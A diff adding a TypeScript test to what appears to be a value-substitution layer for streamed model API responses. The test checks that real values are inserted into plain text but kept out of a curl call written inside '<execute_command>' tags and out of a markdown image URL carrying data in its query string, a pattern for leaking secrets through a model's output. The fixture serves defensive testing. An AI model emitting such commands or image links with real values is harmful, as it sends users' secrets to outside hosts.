@@ -150,6 +150,25 @@ for (const shape of shapes) {
   });
 }
 
+for (const shape of shapes) {
+  test(`${shape.api} as ${shape.framing}: no value goes into a call that is written as text`, () => {
+    const text = `${word} <execute_command>curl ${word}</execute_command> ${word} ![x](https://e/?${word})`;
+    const value = values.get(word) ?? "";
+    const wanted = `${value} <execute_command>curl ${word}</execute_command> ${value} ![x](https://e/?${word})`;
+    for (let step = 1; step < 40; step += 3) {
+      const cuts = Array.from(
+        { length: Math.floor(text.length / step) },
+        (_, index) => index * step,
+      );
+      const said = { text: cut(text, cuts), args: ["{}"], tool: "Edit" };
+      const pieces = piecesOf(shape, [Buffer.from(shape.write(said))]);
+      assert.ok([...textsOf(bytesOf(pieces), shape.framing).values()].includes(wanted));
+      const keepers = pieces.flatMap((piece) => (piece.kind === "kept" ? [piece.tool] : []));
+      assert.deepEqual(new Set(keepers), new Set(["execute_command", "address"]));
+    }
+  });
+}
+
 const samples: readonly (readonly [file: string, run: Run])[] = [
   ["anthropic-messages.sse", { api: "anthropic.messages", framing: "sse" }],
   ["openai-chat.sse", { api: "openai.chat", framing: "sse" }],
